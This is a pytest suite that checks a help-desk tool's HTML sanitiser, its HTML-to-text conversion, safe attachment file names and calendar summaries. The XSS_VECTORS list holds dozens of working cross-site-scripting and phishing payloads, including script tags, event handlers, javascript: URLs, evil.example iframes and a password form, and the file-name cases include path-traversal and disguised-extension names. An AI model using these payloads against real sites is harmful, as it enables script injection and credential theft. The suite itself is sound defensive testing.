"""The HTML sanitiser against hostile markup, HTML → text, file names and calendar summaries."""

from __future__ import annotations

import re

import pytest

from ticketdesk.intake.sanitize import (
    calendar_to_text,
    extension_for,
    html_to_text,
    safe_filename,
    sanitize_html,
    text_to_html,
)

# (hostile input, strings that must not survive, case-insensitively)
XSS_VECTORS: list[tuple[str, list[str]]] = [
    ("<script>alert(1)</script>ok", ["<script", "alert"]),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>ok", ["<script", "evil.example"]),
    ('<img src=x onerror="alert(1)">', ["onerror", "alert"]),
    ("<img src=x oNeRrOr=alert(1)//>", ["onerror"]),
    ("<body onload=alert(1)>x</body>", ["onload"]),
    ('<a href="javascript:alert(1)">x</a>', ["javascript"]),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', ["javascript"]),
    ('<a href="java&#x09;script:alert(1)">x</a>', ["script:"]),
    ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>', ["alert"]),
    ('<a href=" javascript:alert(1)">x</a>', ["javascript"]),
    ('<a href="vbscript:msgbox(1)">x</a>', ["vbscript"]),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', ["data:"]),
    ('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', ["data:image/svg"]),
    ('<iframe src="https://evil.example"></iframe>', ["<iframe", "evil.example"]),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', ["<iframe", "srcdoc", "alert"]),
    ('<object data="evil.swf"></object><embed src="evil.swf">', ["<object", "<embed", "evil.swf"]),
    (
        '<form action="https://evil.example"><input name=p type=password><button>go</button></form>',
        ["<form", "<input", "<button"],
    ),
    ("<svg onload=alert(1)><circle r=1 /></svg>", ["<svg", "onload"]),
    ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', ["<math", "javascript"]),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', ["<meta", "refresh"]),
    ('<base href="https://evil.example/">', ["<base"]),
    ('<link rel=stylesheet href="https://evil.example/x.css">', ["<link", "x.css"]),
    ("<style>@import 'https://evil.example/x.css';</style>", ["<style", "@import"]),
    ('<div style="background:url(https://evil.example/t.png)">x</div>', ["url(", "evil"]),
    ('<div style="width:expression(alert(1))">x</div>', ["expression"]),
    ('<div style="behavior:url(x.htc)">x</div>', ["behavior"]),
    ('<div style="position:fixed;top:0;left:0;z-index:9999">overlay</div>', ["position", "z-index"]),
    ('<p style="color:re\\64">x</p>', ["\\"]),
    ('<div id="login" class="btn btn-danger">x</div>', ["id=", "class="]),
    ('<a href="/admin/users/1/delete">x</a>', ["/admin"]),
    ('<img src="/api/v1/tickets?delete=1">', ["/api/v1"]),
    ("<!--<script>alert(1)</script>-->ok", ["<!--", "alert"]),
    ("<![CDATA[<script>alert(1)</script>]]>", ["<script"]),
    ("<scr<script>ipt>alert(1)</script>", ["<script"]),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ["onerror"]),
    ("<template><script>alert(1)</script></template>", ["<script", "<template"]),
    ("<textarea><img src=x onerror=alert(1)></textarea>", ["onerror", "<textarea"]),
    ('<video poster="https://evil.example/p.png"><source src=x></video>', ["<video", "poster"]),
    ('<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>', ["background="]),
    ('<img srcset="https://evil.example/a.png 1x">', ["srcset"]),
    ('<a href="https://ok.example" onmouseover="alert(1)">x</a>', ["onmouseover"]),
    ("<details open ontoggle=alert(1)>", ["ontoggle"]),
    ("<marquee onstart=alert(1)>x</marquee>", ["onstart", "<marquee"]),
    ('<isindex action="javascript:alert(1)" type=image>', ["javascript", "<isindex"]),
    ("<x-custom onclick=alert(1)>x</x-custom>", ["onclick", "<x-custom"]),
]


@pytest.mark.parametrize(("hostile", "banned"), XSS_VECTORS)
def test_hostile_html_is_neutralised(hostile: str, banned: list[str]) -> None:
    cleaned = sanitize_html(hostile).lower()
    for needle in banned:
        assert needle.lower() not in cleaned


def test_keeps_basic_formatting_tables_and_links() -> None:
    html = (
        '<p style="color:#333;font-weight:bold">Hi <b>bold</b> <i>it</i> <u>u</u></p>'
        "<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>quoted</blockquote><pre>  code</pre>"
        '<table border="1" cellpadding="2"><tr><th colspan="2">head</th></tr><tr><td>a</td><td>b</td></tr></table>'
        '<a href="https://example.com/a?b=1&amp;c=2">link</a> <a href="mailto:x@example.com">mail</a>'
    )
    cleaned = sanitize_html(html)
    for kept in ("<b>bold</b>", "<i>it</i>", "<u>u</u>", "<li>one</li>", "<blockquote>quoted</blockquote>",
                 "<pre>  code</pre>", 'colspan="2"', "<td>a</td>", 'style="color:#333;font-weight:bold"',
                 'href="https://example.com/a?b=1&amp;c=2"', 'href="mailto:x@example.com"'):  # fmt: skip
        assert kept in cleaned
    for link in re.findall(r"<a [^>]*>", cleaned):
        assert 'rel="noopener noreferrer nofollow"' in link and 'target="_blank"' in link


def test_remote_images_blocked_by_default_and_allowed_on_request() -> None:
    html = '<img src="https://cdn.example/logo.png?a=1&amp;b=2" alt="Logo">'
    blocked = sanitize_html(html)
    assert " src=" not in blocked
    assert 'data-blocked-src="https://cdn.example/logo.png?a=1&amp;b=2"' in blocked
    assert 'alt="Logo"' in blocked
    allowed = sanitize_html(html, allow_remote_images=True)
    assert 'src="https://cdn.example/logo.png?a=1&amp;b=2"' in allowed and "data-blocked-src" not in allowed


def test_cid_images_are_mapped_and_unknown_cids_dropped() -> None:
    html = '<img src="cid:image001.png@01DB77A1"><img src="CID:Other%40x"><img src="cid:missing@x">'
    cleaned = sanitize_html(
        html, cid_map={"image001.png@01DB77A1": "/attachments/abc", "other@x": "/attachments/def"}
    )
    assert '<img src="/attachments/abc">' in cleaned
    assert '<img src="/attachments/def">' in cleaned
    assert "cid:" not in cleaned.lower() and cleaned.count("<img") == 3


def test_data_images_kept_only_for_raster_types() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    assert f'src="{png}"' in sanitize_html(f'<img src="{png}">')
    assert "src=" not in sanitize_html('<img src="data:text/html,hi">')
    assert "data:" not in sanitize_html(f'<a href="{png}">x</a>')


def test_attribute_values_cannot_break_out() -> None:
    cleaned = sanitize_html('<img src="https://x.example/a.png" alt="&quot;><script>alert(1)</script>">')
    assert "<script" not in cleaned
    assert cleaned.count("<") == 1


def test_html_to_text_blocks_lists_quotes_links_entities() -> None:
    html = (
        "<html><head><title>T</title><style>p{}</style></head><body><h1>Title</h1><p>Hello&nbsp;&amp; "
        "<b>world</b></p><div>line<br>break</div><ul><li>a</li><li>b</li></ul><ol><li>x</li><li>y</li></ol>"
        '<p><a href="https://example.com/x">click here</a> <a href="https://example.com/y">https://example.com/y</a></p>'
        "<blockquote><p>quoted</p><blockquote>deeper</blockquote></blockquote><table><tr><td>c1</td><td>c2</td></tr></table>"
        '<img src="x.png" alt="diagram"><script>var x=1;</script><p>&lt;not a tag&gt; &#8364; &euro;</p></body></html>'
    )
    assert html_to_text(html) == (
        "Title\n\nHello & world\n\nline\nbreak\n\n- a\n- b\n\n1. x\n2. y\n\n"
        "click here <https://example.com/x> https://example.com/y\n\n> quoted\n>\n> > deeper\n\nc1  c2\n\n"
        "[diagram]\n\n<not a tag> € €"
    )


def test_html_to_text_handles_pre_and_broken_markup() -> None:
    assert html_to_text("<pre>  a\n    b</pre>") == "  a\n    b"
    assert html_to_text("<p>unclosed <b>bold <i>both") == "unclosed bold both"
    assert html_to_text("") == ""
    assert html_to_text("<div>\u200bzero\ufeffwidth\u00ad</div>") == "zerowidth"


def test_text_to_html_escapes() -> None:
    assert text_to_html("a < b\nc") == '<div style="white-space:pre-wrap">a &lt; b\nc</div>'
    assert text_to_html("") == ""


@pytest.mark.parametrize(
    ("name", "ctype", "expected"),
    [
        ("report.pdf", "application/pdf", "report.pdf"),
        ("../../etc/passwd", "text/plain", "passwd"),
        ("C:\\Users\\jan\\Desktop\\faktura.pdf", "application/pdf", "faktura.pdf"),
        ("invoice\u202efdp.exe", "application/octet-stream", "invoicefdp.exe"),
        ("bad\x00name\x07.txt", "text/plain", "badname.txt"),
        ('a<b>c:d"e|f?g*h.txt', "text/plain", "a_b_c_d_e_f_g_h.txt"),
        ("  spaced   name .doc ", "application/msword", "spaced name .doc"),
        (".htaccess", "text/plain", "htaccess"),
        ("...", "image/gif", "attachment-7.gif"),
        ("", "image/png", "attachment-7.png"),
        (None, "message/rfc822", "attachment-7.eml"),
        (None, "application/x-unknown-thing", "attachment-7.bin"),
        ("CON", "text/plain", "_CON"),
        ("lpt1.txt", "text/plain", "_lpt1.txt"),
        ("Přehled služeb č. 1.xlsx", "application/vnd.ms-excel", "Přehled služeb č. 1.xlsx"),
    ],
)
def test_safe_filename(name: str | None, ctype: str, expected: str) -> None:
    assert safe_filename(name, content_type=ctype, index=7) == expected


def test_safe_filename_limits_length_keeping_extension() -> None:
    name = safe_filename("x" * 400 + ".pdf", content_type="application/pdf", index=1)
    assert len(name) == 150 and name.endswith(".pdf")
    assert len(safe_filename("y" * 400, content_type="text/plain", index=1)) == 150


def test_extension_for_is_independent_of_host_mime_types() -> None:
    assert extension_for("text/plain") == ".txt"
    assert extension_for("IMAGE/JPEG") == ".jpg"
    assert extension_for("text/calendar") == ".ics"
    assert extension_for("application/x-nonsense") == ".bin"


def test_calendar_summary_with_folding_escapes_and_cancel() -> None:
    ics = (
        "BEGIN:VCALENDAR\r\nMETHOD:CANCEL\r\nBEGIN:VEVENT\r\nSUMMARY:Údržba\\, plán\r\nDTSTART;VALUE=DATE:20250301\r\n"
        "LOCATION:Praha\\; sál 2\r\nDESCRIPTION:Řádek 1\\nŘádek 2 je dlou\r\n hý\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    assert calendar_to_text(ics) == (
        "Cancelled event: Údržba, plán\nWhen: 2025-03-01\nWhere: Praha; sál 2\n\nŘádek 1\nŘádek 2 je dlouhý"
    )
    assert calendar_to_text("BEGIN:VCALENDAR\nEND:VCALENDAR\n") == ""
    assert calendar_to_text("garbage") == ""
